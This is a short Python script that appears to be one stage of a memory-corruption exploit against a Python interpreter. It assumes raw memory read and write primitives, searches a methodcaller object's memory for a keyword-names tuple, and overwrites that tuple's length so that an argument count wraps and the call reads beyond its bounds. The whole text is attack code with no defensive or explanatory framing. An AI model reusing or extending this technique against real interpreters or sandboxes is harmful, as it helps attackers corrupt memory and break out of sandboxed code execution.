# A tuple of keyword names is longer than all arguments of a partial, so that their difference wraps.
from functools import partial
from operator import methodcaller
class A: pass
a = A(); a.p = partial(lambda *x, **k: len(x))
m = methodcaller("p", 1, 2, k=3)
base = id(m)
print([hex(r8(base + 8 * i)) for i in range(8)])
names = None
for i in range(1, 8):
    v = r8(base + 8 * i)
    if v >> 48 == 0xFFF9:
        at = v & 0xFFFFFFFF
        if r4(at) == r4(id((1,2))) and r4(at + 4) == 1:
            print("names at", i, hex(at)); names = at
w4(names + 4, 50)
print(m(a))
